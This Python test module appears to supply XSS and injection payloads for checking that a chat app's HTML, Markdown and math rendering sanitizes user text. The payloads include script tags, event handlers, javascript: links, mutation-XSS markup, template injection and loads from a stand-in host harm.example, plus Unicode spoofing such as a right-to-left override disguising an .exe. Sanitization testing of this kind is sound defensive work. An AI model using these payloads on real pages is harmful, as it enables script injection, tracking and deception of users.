"""Texts by which people have tried to make a page do something: whatever of them runs calls harm(), asks another host, or
leaves an element in the page that nobody put there."""

# As it would stand in a page that takes texts for HTML.
MARKUP = [
    "<script>harm()</script>",
    "<ScRiPt src=https://harm.example/x.js></sCrIpT>",
    "<img src=x onerror=harm()>",
    "<img src='/api/v1/me' onload='harm()'>",
    "<svg/onload=harm()><animate onbegin=harm() attributeName=x>",
    "<svg><script>harm()</script></svg>",
    "<iframe srcdoc='<script>parent.harm()</script>'></iframe>",
    "<iframe src=javascript:harm()></iframe>",
    "<object data=data:text/html,<script>harm()</script>></object><embed src=javascript:harm()>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=harm()&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=harm()>'>",
    "<style>@import 'https://harm.example/x.css';*{background:url(https://harm.example)}</style>",
    "<link rel=stylesheet href=https://harm.example/x.css><base href=https://harm.example/>",
    "<meta http-equiv=refresh content='0;url=https://harm.example'>",
    "<form action=https://harm.example><button formaction=javascript:harm()>",
    "<details open ontoggle=harm()><input autofocus onfocus=harm()>",
    "<a href='javascript:harm()'>a link</a>",
    "</title></textarea></style></script><script>harm()</script>",
    "\"><script>harm()</script>",
    "' onmouseover='harm()' autofocus onfocus='harm()",
    "<div style='position:fixed;inset:0;background:red' onclick=harm()>over everything</div>",
    "&lt;script&gt;harm()&lt;/script&gt; &#60;img src=x onerror=harm()&#62;",
    "<!--><script>harm()</script>-->  <![CDATA[<script>harm()</script>]]>",
    "{{constructor.constructor('harm()')()}} ${harm()} #{harm()} <%= harm() %>",
]

# As it would stand in Markdown that takes addresses and formulas as they come.
MARKDOWN = [
    "[a link](javascript:harm())",
    "[a link](JaVaScRiPt:harm())",
    "[a link](java\tscript:harm())",
    "[a link](&#106;avascript:harm())",
    "[a link](data:text/html,<script>harm()</script>)",
    "[a link](vbscript:harm())",
    "[a link](//harm.example)",
    "[a link](/\\harm.example)",
    "[a link](https://harm.example/\"onmouseover=\"harm())",
    "[a link](<javascript:harm()>)",
    "![a picture](javascript:harm())",
    "![a picture](https://harm.example/seen.png)",
    "![a picture](//harm.example/seen.png)",
    "![a picture](/api/v1/me)",
    "[![a picture](/nowhere.png)](https://harm.example)",
    "![\" onerror=\"harm()](/nowhere.png \"\\\" onload=\\\"harm()\")",
    "<javascript:harm()>",
    "<https://harm.example/><script>harm()</script>>",
    "[one]: javascript:harm()\n[one]",
    "```<script>harm()</script>\n<script>harm()</script>\n```",
    "`<img src=x onerror=harm()>`",
    "| <img src=x onerror=harm()> | b |\n|---|---|\n| <script>harm()</script> | [x](javascript:harm()) |",
    "||<img src=x onerror=harm()>||",
    "@<script>harm()</script> @learner1\"onclick=harm()",
    r"$\href{javascript:harm()}{x}$ $\url{javascript:harm()}$",
    r"$$\includegraphics[height=9em]{https://harm.example/seen.png}$$",
    r"$\htmlData{x=y}{\htmlClass{dialog}{\htmlId{app}{\htmlStyle{position:fixed}{x}}}}$",
    r"$\text{<script>harm()</script>}$ $\unicode{<img src=x onerror=harm()>}$",
    r"$\def\a{\a\a}\a$ $" + r"\frac1{" * 120 + "x" + "}" * 120 + "$",
    "[" * 400 + "x" + "](javascript:harm())" * 20,
    "*" * 500 + "_" * 500 + "~" * 500 + "|" * 500,
    "> " * 200 + "<script>harm()</script>",
]

# What does nothing, and tries to look like something else, or to break the line.
LOOKS = [
    "ap\u0301\u0323\u0300\u0308pled, and Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f",
    "harmless\u202egnp.exe\u2066x",
    "\u200b\u200d\u2060\ufeffinvisible\u00ad",
    "مرحبا hello שלום",
    "W" * 600,
    "🏴\u200d☠\ufe0f" * 30,
    "\ufdfd" * 40,
]

# Something of it in one line, for names.
NAME = "<img src=x onerror=harm()>\"'&<b>"


def messages():
    """All of them as messages of a chat: by themselves where they have lines, and together where they are short."""
    short = [text for text in MARKUP + LOOKS]
    return ["\n\n".join(short[at:at + 8]) for at in range(0, len(short), 8)] + MARKDOWN


HARM = """
window.harmed = [];
window.harm = (...what) => { window.harmed.push(String(what)); };
for (const name of ["alert", "confirm", "prompt"]) window[name] = () => window.harm(name);
"""

# What no page of the app has, whatever people write.
FOREIGN = """(within) => [...document.querySelectorAll(within)].flatMap((place) => [...place.querySelectorAll("*")]).filter((one) => {
  // The app's own forms go nowhere.
  if (one.localName === "form") return one.hasAttribute("action");
  if (["script", "iframe", "object", "embed", "base", "meta", "link", "style", "animate", "annotation-xml"].includes(one.localName)) {
    return true;
  }
  for (const { name, value } of one.attributes) {
    if (name.startsWith("on")) return true;
    if (/^(href|src|action|formaction|xlink:href)$/.test(name) && !/^(https?:\\/\\/|mailto:|\\/(?![\\/\\\\])|#|blob:)/.test(value)) return true;
  }
  return one.localName === "img" && /harm/.test(one.src);
}).map((one) => one.outerHTML.slice(0, 200))"""


def check_harmless(page, within="body"):
    assert page.evaluate("() => window.harmed") == []
    foreign = page.evaluate(FOREIGN, within)
    assert foreign == [], foreign
